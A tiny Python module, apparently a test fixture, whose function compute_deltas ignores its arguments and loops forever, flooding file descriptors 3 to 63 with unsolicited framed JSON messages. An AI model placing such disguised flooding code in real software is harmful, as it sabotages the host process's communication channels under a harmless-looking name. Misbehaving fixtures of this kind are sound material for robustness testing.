"""Answers for ever without having been asked."""

import json
import os
import struct


def compute_deltas(rewards, mode):
    header = json.dumps({"op": "missing"}).encode()
    frame = struct.pack(">4sIQ", b"PGF1", len(header), 0) + header
    while True:
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, frame * 100)
            except OSError:
                pass
